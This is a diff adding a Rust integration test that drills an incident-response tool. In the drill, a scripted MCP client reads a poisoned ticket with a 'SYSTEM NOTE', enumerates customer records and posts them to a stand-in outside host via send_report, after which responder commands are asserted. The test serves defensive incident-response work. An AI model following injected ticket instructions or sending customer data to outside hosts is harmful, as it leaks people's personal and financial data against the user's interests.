@@ -1,0 +1,428 @@
+//! The incident drill, end to end through the real binary: `warden proxy` in front of a
+//! small MCP server (the official Python SDK) whose customers live in a real
+//! PostgreSQL database; a scripted "injected" client reads a poisoned ticket, enumerates
+//! customer ids, then posts what it read to an outside host (a local listener). Then
+//! the responder's commands: open → scope → isolate → rotate → preserve → triage →
+//! report → verify-fix → return-check, each asserted on exact facts.
+//!
+//! Needs `eval "$(bash scripts/setup-mcp-test-deps.sh)"` and
+//! `eval "$(bash scripts/start-postgres.sh)"` (`.ci/run` does both; under CI=true a
+//! missing part fails the test).
+
+mod proxy_common;
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Child, ChildStdin, ChildStdout, Command, Output, Stdio};
+use std::sync::{Arc, Mutex};
+
+use proxy_common::{Parts, records, warden_bin};
+use serde_json::{Value, json};
+
+struct Pg {
+    host: String,
+    port: String,
+}
+
+fn pg() -> Option<Pg> {
+    match (
+        std::env::var("WARDEN_TEST_PG_HOST"),
+        std::env::var("WARDEN_TEST_PG_PORT"),
+    ) {
+        (Ok(host), Ok(port)) => Some(Pg { host, port }),
+        _ if std::env::var_os("CI").is_some() => panic!(
+            "CI is set but WARDEN_TEST_PG_HOST / WARDEN_TEST_PG_PORT are not: .ci/run must run scripts/start-postgres.sh"
+        ),
+        _ => {
+            eprintln!("skipping: eval \"$(bash scripts/start-postgres.sh)\" to run the drill");
+            None
+        }
+    }
+}
+
+/// Runs SQL through psql as `user` (the superuser `postgres` by trust, or a role by
+/// password); returns (success, stdout + stderr).
+fn psql(pg: &Pg, db: &str, user: &str, password: Option<&str>, sql: &str) -> (bool, String) {
+    let mut c = Command::new("psql");
+    c.args([
+        "-X",
+        "-At",
+        "-v",
+        "ON_ERROR_STOP=1",
+        "-h",
+        &pg.host,
+        "-p",
+        &pg.port,
+    ])
+    .args(["-U", user, "-d", db, "-c", sql])
+    .env_remove("PGPASSWORD");
+    if let Some(p) = password {
+        c.env("PGPASSWORD", p);
+    }
+    let out = c.output().expect("psql runs");
+    (
+        out.status.success(),
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        ),
+    )
+}
+
+fn admin_sql(pg: &Pg, db: &str, sql: &str) -> String {
+    let (ok, out) = psql(pg, db, "postgres", None, sql);
+    assert!(ok, "{sql}: {out}");
+    out.trim().to_string()
+}
+
+/// The scripted client: spawned once, fed one step at a time.
+struct Agent {
+    child: Child,
+    stdin: ChildStdin,
+    stdout: BufReader<ChildStdout>,
+}
+
+impl Agent {
+    fn start(parts: &Parts, ledger: &Path, repo: &Path) -> Agent {
+        let client = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/drill/client.py");
+        let mut child = Command::new(&parts.python)
+            .arg(client)
+            .arg(warden_bin())
+            .args(["proxy", "--ledger"])
+            .arg(ledger)
+            .args(["--", &parts.python])
+            .arg(repo.join("server.py"))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .expect("client starts");
+        let stdin = child.stdin.take().expect("stdin");
+        let stdout = BufReader::new(child.stdout.take().expect("stdout"));
+        Agent {
+            child,
+            stdin,
+            stdout,
+        }
+    }
+
+    fn step(&mut self, step: Value) -> Value {
+        writeln!(self.stdin, "{step}").expect("write step");
+        self.stdin.flush().expect("flush");
+        let mut line = String::new();
+        self.stdout.read_line(&mut line).expect("read result");
+        serde_json::from_str(&line).unwrap_or_else(|_| panic!("client said: {line:?}"))
+    }
+
+    fn call(&mut self, tool: &str, args: Value) -> Value {
+        self.step(json!({"call": tool, "args": args}))
+    }
+
+    fn finish(mut self) {
+        drop(self.stdin);
+        let _ = self.child.wait();
+    }
+}
+
+/// The outside host: accepts HTTP POSTs and keeps the bodies.
+fn outside_host() -> (u16, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let keep = got.clone();
+    std::thread::spawn(move || {
+        for conn in listener.incoming().flatten() {
+            let mut conn = conn;
+            let mut buf = vec![0u8; 65536];
+            let mut text = String::new();
+            // Headers, then the body up to Content-Length.
+            loop {
+                let n = conn.read(&mut buf).unwrap_or(0);
+                if n == 0 {
+                    break;
+                }
+                text.push_str(&String::from_utf8_lossy(&buf[..n]));
+                if let Some((head, body)) = text.split_once("\r\n\r\n") {
+                    let len = head
+                        .lines()
+                        .find_map(|l| {
+                            l.to_ascii_lowercase()
+                                .strip_prefix("content-length:")
+                                .map(|v| v.trim().parse::<usize>().unwrap_or(0))
+                        })
+                        .unwrap_or(0);
+                    if body.len() >= len {
+                        break;
+                    }
+                }
+            }
+            let _ = conn
+                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+            keep.lock().expect("lock").push(text);
+        }
+    });
+    (port, got)
+}
+
+fn run(case: &Path, args: &[&str]) -> Output {
+    Command::new(warden_bin())
+        .env("WARDEN_CASE", case)
+        .env("USER", "drill-responder")
+        .args(args)
+        .output()
+        .expect("warden runs")
+}
+
+fn ok(case: &Path, args: &[&str]) -> String {
+    let out = run(case, args);
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(out.status.success(), "warden {}:\n{text}", args.join(" "));
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn ok_json(case: &Path, args: &[&str]) -> Value {
+    let text = ok(case, args);
+    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
+}
+
+const CUSTOMERS: u32 = 40;
+const ENUMERATED: u32 = 12;
+
+#[test]
+fn incident_drill_from_injection_to_return_to_service() {
+    let (Some(parts), Some(pg)) = (proxy_common::parts(), pg()) else {
+        return;
+    };
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let unique = format!(
+        "{}_{}",
+        std::process::id(),
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .expect("clock")
+            .subsec_nanos()
+    );
+    let db = format!("drill_{unique}");
+    let role = format!("drill_app_{unique}");
+    let password = format!("pw-{unique}-not-a-real-secret");
+
+    // The database: customers owned by the app's role.
+    admin_sql(
+        &pg,
+        "postgres",
+        &format!("CREATE ROLE {role} LOGIN PASSWORD '{password}'"),
+    );
+    admin_sql(&pg, "postgres", &format!("CREATE DATABASE {db}"));
+    admin_sql(
+        &pg,
+        &db,
+        &format!(
+            "CREATE TABLE customers (id int PRIMARY KEY, name text, email text, card_last4 text);
+             INSERT INTO customers SELECT i, 'Customer ' || i, 'c' || i || '@example.org', lpad((i * 37 % 10000)::text, 4, '0') FROM generate_series(1, {CUSTOMERS}) i;
+             ALTER TABLE customers OWNER TO {role};"
+        ),
+    );
+
+    // The server's source, with its secret store.
+    let repo = tmp.path().join("support-server");
+    std::fs::create_dir_all(&repo).expect("repo");
+    let drill = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/drill");
+    std::fs::copy(drill.join("server.py"), repo.join("server.py")).expect("copy server");
+    let env_file = repo.join(".env");
+    std::fs::write(
+        &env_file,
+        format!(
+            "# support server settings\nLOG_LEVEL=info\nDATABASE_URL=postgresql://{role}:{password}@/{db}?host={}&port={}\n",
+            pg.host, pg.port
+        ),
+    )
+    .expect("env file");
+
+    // The proxy's ledger, and the attack.
+    let ledger = tmp.path().join("ledger");
+    proxy_common::init_ledger(&ledger);
+    let (port, received) = outside_host();
+    let mut agent = Agent::start(&parts, &ledger, &repo);
+    let tools = agent.step(json!({"list": true}));
+    assert_eq!(
+        tools["tools"],
+        json!(["get_customer", "search_tickets", "send_report"])
+    );
+    let tickets = agent.call("search_tickets", json!({"query": "the"}));
+    assert!(tickets.to_string().contains("SYSTEM NOTE"), "{tickets}");
+    let mut stolen = Vec::new();
+    for id in 1..=ENUMERATED {
+        let c = agent.call("get_customer", json!({"customer_id": id}));
+        assert_eq!(c["isError"], json!(false), "{c}");
+        stolen.push(c["text"][0].clone());
+    }
+    let sent = agent.call(
+        "send_report",
+        json!({"url": format!("http://127.0.0.1:{port}/collect"), "body": Value::Array(stolen).to_string()}),
+    );
+    assert_eq!(sent["text"], json!(["sent: 200"]), "{sent}");
+    assert_eq!(received.lock().expect("lock").len(), 1);
+    // The server holds its database session open as the old role.
+    assert_eq!(
+        admin_sql(
+            &pg,
+            "postgres",
+            &format!("SELECT count(*) FROM pg_stat_activity WHERE usename = '{role}'")
+        ),
+        "1"
+    );
+
+    // Open the case.
+    let case = tmp.path().join("case");
+    let socket = ledger.join("proxy.sock");
+    let case_s = case.to_str().expect("utf-8");
+    ok(
+        &case,
+        &[
+            "incident",
+            "open",
+            "--title",
+            "customer records sent to an unknown host",
+            "--ledger",
+            ledger.to_str().expect("utf-8"),
+            "--repo",
+            repo.to_str().expect("utf-8"),
+            "--proxy",
+            socket.to_str().expect("utf-8"),
+        ],
+    );
+    assert!(case.join("baseline-scan.json").exists());
+
+    // Phase 1, scope: the enumeration, its entry point and the call before it.
+    let scope = ok_json(&case, &["incident", "scope", "--json"]);
+    assert_eq!(scope["assessment"], "confirmed", "{scope:#}");
+    assert_ne!(scope["integrity"]["verdict"], "FAILED", "{scope:#}");
+    eprintln!("integrity: {}", scope["integrity"]);
+    assert!(scope["still_serving"].as_bool().expect("bool"));
+    let rules: Vec<&str> = scope["patterns"]
+        .as_array()
+        .expect("patterns")
+        .iter()
+        .filter_map(|p| p["rule"].as_str())
+        .collect();
+    assert!(rules.contains(&"bulk_enumeration"), "{rules:?}");
+    let ledger_records = records(&ledger);
+    let results: Vec<(u64, &Value)> = ledger_records
+        .iter()
+        .enumerate()
+        .filter(|(_, r)| r["kind"] == "tool.result")
+        .map(|(i, r)| (i as u64, r))
+        .collect();
+    let index_of = |tool: &str, nth: usize| {
+        results
+            .iter()
+            .filter(|(_, r)| r["gen_ai.tool.name"] == tool)
+            .nth(nth)
+            .map(|(i, _)| *i)
+            .expect("record")
+    };
+    let entry = &scope["entry_point"];
+    assert_eq!(entry["first_anomalous"]["tool"], "get_customer");
+    assert_eq!(
+        entry["first_anomalous"]["index"],
+        json!(index_of("get_customer", 0))
+    );
+    assert_eq!(entry["call_before"]["tool"], "search_tickets");
+    let session = entry["first_anomalous"]["session"]
+        .as_str()
+        .expect("session")
+        .to_string();
+    assert_eq!(scope["involved_sessions"], json!([session]));
+
+    // Phase 2, isolate: the fence holds, the next call is refused and recorded.
+    let isolated = ok(&case, &["incident", "isolate"]);
+    assert!(isolated.contains("isolation holds"), "{isolated}");
+    assert!(isolated.contains("Do NOT destroy"), "{isolated}");
+    let probe = agent.call("get_customer", json!({"customer_id": ENUMERATED + 1}));
+    assert!(
+        probe["isError"] == json!(true) || probe.get("error").is_some(),
+        "the fence let a call through: {probe}"
+    );
+    let after = records(&ledger);
+    assert!(after.iter().any(|r| r["kind"] == "admin.fence"));
+    assert!(after.iter().any(|r| r["kind"] == "admin.revoke"));
+    let last_result = after
+        .iter()
+        .rev()
+        .find(|r| r["kind"] == "tool.result")
+        .expect("probe recorded");
+    assert_ne!(last_result["result"]["status"], "ok", "{last_result}");
+
+    // Phase 5, triage: exactly the records read, by class, in the attack's window.
+    let classes = tmp.path().join("classes.toml");
+    std::fs::write(
+        &classes,
+        "[[tool]]\nname = \"get_customer\"\nclasses = [\"pii\", \"financial\"]\nreachable = \"every row of customers\"\n",
+    )
+    .expect("classes");
+    let triage = ok_json(
+        &case,
+        &[
+            "incident",
+            "triage",
+            "--classes",
+            classes.to_str().expect("utf-8"),
+            "--json",
+        ],
+    );
+    assert_eq!(triage["records_read"], json!(ENUMERATED), "{triage:#}");
+    assert_eq!(
+        triage["by_class"],
+        json!([
+            {"class": "financial", "records": ENUMERATED, "tools": ["get_customer"]},
+            {"class": "pii", "records": ENUMERATED, "tools": ["get_customer"]},
+        ])
+    );
+    let time_of = |i: u64| ledger_records[i as usize]["time_unix_nano"].clone();
+    assert_eq!(
+        triage["window_start_unix_nano"],
+        time_of(index_of("search_tickets", 0))
+    );
+    assert_eq!(
+        triage["window_end_unix_nano"],
+        time_of(index_of("send_report", 0))
+    );
+    assert!(
+        triage["outside_hosts"]
+            .as_array()
+            .expect("hosts")
+            .iter()
+            .any(|h| h.as_str().is_some_and(|h| h.starts_with("127.0.0.1"))),
+        "{triage:#}"
+    );
+    assert!(
+        triage["assumptions"][0]
+            .as_str()
+            .is_some_and(|a| a.contains("every row of customers")),
+        "{triage:#}"
+    );
+
+    // Phase 6, communicate.
+    ok(&case, &["incident", "report"]);
+    let counsel = std::fs::read_to_string(case.join("report/counsel.md")).expect("counsel");
+    assert!(
+        counsel.contains(&format!("pii: {ENUMERATED} record(s)")),
+        "{counsel}"
+    );
+    let status = ok(&case, &["incident", "status"]);
+    assert!(status.contains("communicate"), "{status}");
+
+    agent.finish();
+    let _ = case_s;
+    admin_sql(
+        &pg,
+        "postgres",
+        &format!("DROP DATABASE IF EXISTS {db} WITH (FORCE)"),
+    );
+}
